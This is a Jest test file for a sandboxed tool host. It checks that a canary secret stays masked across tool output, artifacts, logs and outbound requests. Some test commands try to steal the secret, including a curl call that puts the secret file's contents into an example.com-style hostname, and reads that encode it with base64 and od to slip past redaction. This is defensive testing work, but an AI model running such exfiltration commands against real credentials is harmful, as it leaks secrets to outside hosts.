/** Secrets in a real host: given by name as a file, sent as a header, and unreadable wherever else
 *  they turn up: the stream, the spool, the artifact, the answer of any tool. */

import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { toFingerprints } from '../../../protocol/fingerprints.ts';
import { noNetwork } from '../../../protocol/network.ts';
import { hasBubblewrap, isRoot, startTestHost, type TestHost } from '../harness.ts';

const CANARY = 'canary-7f3a-swordfish';
const withBubblewrap = hasBubblewrap ? describe : describe.skip;
const users = isRoot
  ? [
      { name: 'root', options: {} },
      { name: 'an ordinary user', options: { uid: 1500 } },
    ]
  : [{ name: 'an ordinary user', options: {} }];
const shown = '[secret KEY]';

withBubblewrap.each(users)('[promise:no-secret-leaves] a secret as $name', ({ options }) => {
  let host: TestHost;
  let server: Server;
  let place: string;

  beforeAll(async () => {
    server = createServer((request, answer) => {
      answer.end(`you said ${request.headers['x-key'] ?? 'nothing'}\n`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    place = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    host = await startTestHost({
      ...options,
      secrets: { KEY: CANARY },
      fingerprints: toFingerprints([{ name: 'KEY', value: Buffer.from(CANARY) }], 'seed'),
      policy: {
        maxOutputBytes: 2048,
        network: {
          ...noNetwork,
          mode: 'allowlist',
          allowedDomains: [place],
          injections: [{ secret: 'KEY', domain: place, header: 'X-Key', format: 'k={value}' }],
        },
      },
    });
    await host.initialize();
  });
  afterAll(async () => {
    await host.close();
    server.close();
  });

  test('is not shown as far as a line that is cut shows it (regression)', async () => {
    const put = (name: string, chars: number): void =>
      writeFileSync(join(host.workspace, name), `${'x'.repeat(chars)}${CANARY}${'y'.repeat(5000)}`);
    put('read', 624);
    put('searched', 990);
    const read = await host.run('read_file', { path: 'read' }, '1.7.1');
    const searched = await host.run('search', { pattern: 'x', path: 'searched' }, '1.7.2');
    expect(read.output).toMatch(/xxx \[line cut: 5645 characters\]$/);
    expect(searched.output).toMatch(/xxx \[\.\.\. [^\]]*\]$/);
  });

  const shell = (command: string, effect: string) =>
    host.run('shell', { command, secrets: ['KEY'] }, effect);
  const curl = (args: string) => `env -u NO_PROXY -u no_proxy curl -sS -m 8 ${args}`;

  test('is a file of the one call that asked, and in no environment', async () => {
    const file = '/run/prx/call/secrets/KEY';
    const script = `wc -c < ${file}; env | grep -c swordfish; stat -c %a ${file}; echo x > ${file}`;
    const { output } = await shell(script, '2.1.1');
    expect(output).toMatch(/^21\n0\n444\n.*Read-only file system/s);
    const after = await host.shell(`ls ${file}`, '2.1.2');
    expect(after.output).toMatch(/No such file/);
  });

  test('is unreadable in what the call prints, however it prints it', async () => {
    const file = '/run/prx/call/secrets/KEY';
    const script = `cat ${file}; echo; base64 -w0 ${file}; echo; od -An -tx1 ${file} | tr -d ' \\n'; cat ${file} >&2; for i in 1 2 3; do head -c 9 ${file}; sleep 0.02; tail -c +10 ${file}; done`;
    const outcome = await shell(script, '2.2.1');
    expect(outcome.output.split(shown).length).toBeGreaterThanOrEqual(7);
    expect(host.outputs.map(({ text }) => text).join('')).toContain(shown);
  });

  test('is unreadable in an artifact', async () => {
    const script = 'for i in $(seq 400); do cat /run/prx/call/secrets/KEY; echo " $i"; done';
    const outcome = await shell(script, '2.3.1');
    expect(outcome.artifact).toBe('tool-2.3.1');
    const artifact = readFileSync(join(host.artifactDir, 'tool-2.3.1'), 'utf8');
    expect(artifact.split(shown)).toHaveLength(401);
  });

  test('is unreadable in files that tools read', async () => {
    writeFileSync(join(host.workspace, 'leak.txt'), `key = ${CANARY}\n`, { mode: 0o644 });
    const read = await host.run('read_file', { path: 'leak.txt' }, '2.4.1');
    expect(read.output).toContain(`key = ${shown}`);
    const found = await host.run('search', { pattern: 'key' }, '2.4.2');
    expect(found.output).toContain(shown);
  });

  test('is unreadable in what a program prints and in names of files', async () => {
    const halves = [CANARY.slice(0, 9), CANARY.slice(9)];
    const code = `process.stdout.write('${halves[0]}'); setTimeout(() => console.log('${halves[1]}'), 30)`;
    const ran = await host.run('run_code', { language: 'javascript', code }, '2.4.3');
    expect(ran).toMatchObject({ status: 'ok', output: `${shown}\n` });
    expect(JSON.stringify(host.readSpool('2.4.3'))).not.toContain('swordfish');
    writeFileSync(join(host.workspace, CANARY), '', { mode: 0o644 });
    const found = await host.run('glob', { pattern: 'canary*' }, '2.4.4');
    expect(found.output).toBe(shown);
  });

  test('goes as a header where it is configured, and comes back unreadable', async () => {
    const plain = await host.shell(curl(`http://${place}/`), '2.5.1');
    expect(plain.output).toBe(`you said k=${shown}\n`);
    const fetched = await host.run('fetch', { url: `http://${place}/` }, '2.5.2');
    expect(fetched.output).toContain(`you said k=${shown}`);
    expect(host.requests.map(({ secrets }) => secrets)).toEqual([['KEY'], ['KEY']]);
  });

  test('is unreadable in what the call asks the network for', async () => {
    const file = '/run/prx/call/secrets/KEY';
    const { output } = await shell(curl(`http://a.$(cat ${file}).example/`), '2.7.1');
    expect(output).toContain(`a.${shown}.example:80`);
    const noted = host.requests.filter(({ call_id: call }) => call === '2.7.1');
    expect(noted).toMatchObject([{ host: `a.${shown}.example`, decision: 'deny' }]);
    expect(JSON.stringify([output, noted, host.readSpool('2.7.1')])).not.toContain(CANARY);
  });

  test('that is refused refuses the call', async () => {
    const outcome = await host.run('shell', { command: 'echo ran', secrets: ['OTHER'] }, '2.6.1');
    expect(outcome).toMatchObject({ status: 'denied', output: 'there is no secret OTHER' });
  });

  test('set later is unreadable from the next call on', async () => {
    expect((await host.shell('echo later-secret-value', '2.7.1')).output).toContain('later-secret');
    await host.connection.notify(
      'sandbox/fingerprints',
      toFingerprints(
        [
          { name: 'KEY', value: Buffer.from(CANARY) },
          { name: 'LATER', value: Buffer.from('later-secret-value') },
        ],
        'seed',
      ),
    );
    expect((await host.shell('echo later-secret-value', '2.7.2')).output).toBe('[secret LATER]\n');
  });

  test('after all of this it is in no file and no log of the host', () => {
    const places = ['spool', 'artifacts'].map((name) => join(host.base, name));
    const files = places.flatMap((folder) =>
      readdirSync(folder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name)),
    );
    expect(files.length).toBeGreaterThan(8);
    for (const text of [host.stderr(), ...files.map((file) => readFileSync(file, 'latin1'))]) {
      expect(text).not.toContain('swordfish');
      expect(text).not.toContain(Buffer.from(CANARY).toString('base64').slice(0, 20));
    }
  });
});

test('without a sandbox no command gets a secret', async () => {
  const host = await startTestHost({ secrets: { KEY: CANARY }, policy: { backend: 'none' } });
  try {
    await host.initialize();
    const outcome = await host.run('shell', { command: 'echo ran', secrets: ['KEY'] });
    expect(outcome).toMatchObject({
      status: 'denied',
      output: expect.stringMatching(/level none has none/),
    });
  } finally {
    await host.close();
  }
});
